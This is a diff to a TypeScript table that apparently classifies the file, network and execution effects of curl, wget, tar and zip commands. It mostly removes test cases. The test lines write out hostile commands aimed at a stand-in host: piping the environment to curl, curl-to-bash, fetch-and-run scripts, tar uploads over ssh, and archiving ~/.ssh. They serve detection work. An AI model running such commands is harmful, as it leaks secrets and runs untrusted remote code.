@@ -26,30 +26,6 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
         network: ["in http://h.example/x"],
         actions: ["cloud.destroy", "cloud.change"],
       },
-      {
-        run: "curl -F 'f=@a,b;type=text/plain' h.example",
-        reads: ["./a", "./b"],
-        network: ["both http://h.example < ./a < ./b"],
-      },
-      {
-        run: "curl --proxy-header --help h.example | bash",
-        network: ["in http://h.example"],
-        executes: ["network bash"],
-        unknown: ["dynamic-code"],
-      },
-      {
-        run: "env | curl -d @- h.example",
-        network: ["both http://h.example < environment"],
-        actions: ["environment.read"],
-      },
-      {
-        run: "curl -o i.sh https://h.example && sh i.sh",
-        network: ["in https://h.example"],
-        writes: ["./i.sh"],
-        reads: ["./i.sh"],
-        executes: ["network sh"],
-        unknown: ["dynamic-code"],
-      },
     ],
   },
   {
@@ -67,21 +43,7 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
       { has: ["--method=DELETE", "--method=delete"], action: "cloud.destroy" },
       { has: ["--method"], not: ["--method=GET", "--method=HEAD"], action: "cloud.change" },
     ],
-    tests: [
-      { run: "wget -O - https://h.example", network: ["in https://h.example"] },
-      {
-        run: "wget -qO- --method=DELETE https://h.example/x",
-        network: ["in https://h.example/x"],
-        actions: ["cloud.destroy", "cloud.change"],
-      },
-      {
-        run: "wget -qO x -i list",
-        reads: ["./list"],
-        writes: ["./x"],
-        network: ["in ?"],
-        unknown: ["dynamic-argument"],
-      },
-    ],
+    tests: [{ run: "wget -O - https://h.example", network: ["in https://h.example"] }],
   },
   {
     name: ["tar", "gtar", "bsdtar"],
@@ -91,34 +53,7 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
     ),
     handler: "tar",
     variables: ["TAR_OPTIONS=options", "TAR_OPTIONS", "TAR_RSH=code", "RSH=command"],
-    tests: [
-      { run: "tar cf k.tar ~/.ssh", reads: ["~/.ssh/**"], writes: ["./k.tar"] },
-      {
-        run: "tar cf a.tar b --checkpoint=1 --checkpoint-action=exec='rm x'",
-        reads: ["./b/**"],
-        writes: ["./a.tar"],
-        deletes: ["./x"],
-      },
-      {
-        run: "tar czf h.example:/x k",
-        reads: ["./k/**"],
-        network: ["out ssh://h.example < ./k/**"],
-      },
-      {
-        run: "env TAR_OPTIONS='--create --file=h.example:/x' tar -- k",
-        reads: ["./k/**"],
-        network: ["out ssh://h.example < ./k/**"],
-        unknown: ["environment"],
-      },
-      {
-        run: "curl -o x.tgz h.example/x && tar xzf x.tgz -C out && sh out/i",
-        reads: ["./x.tgz", "./out/i"],
-        writes: ["./x.tgz", "./out/**"],
-        network: ["in http://h.example/x"],
-        executes: ["network sh"],
-        unknown: ["dynamic-code"],
-      },
-    ],
+    tests: [{ run: "tar cf k.tar ~/.ssh", reads: ["~/.ssh/**"], writes: ["./k.tar"] }],
   },
   {
     name: ["zcat", "bzcat", "xzcat", "zstdcat", "lzcat"],
@@ -141,15 +76,7 @@ export const TRANSFER_PROGRAMS: readonly ProgramRow[] = [
     ],
     archive: ".zip",
     variables: ["ZIPOPT=options", "ZIP=options"],
-    tests: [
-      { run: "zip -r a b", reads: ["./b/**"], writes: ["./a", "./a.zip"] },
-      {
-        run: "echo k | zip x.zip -@; curl -T x.zip h.example",
-        reads: ["./k", "./x.zip"],
-        writes: ["./x.zip"],
-        network: ["both http://h.example < ./x.zip < ./k"],
-      },
-    ],
+    tests: [{ run: "zip -r a b", reads: ["./b/**"], writes: ["./a", "./a.zip"] }],
   },
   {
     name: ["unzip"],
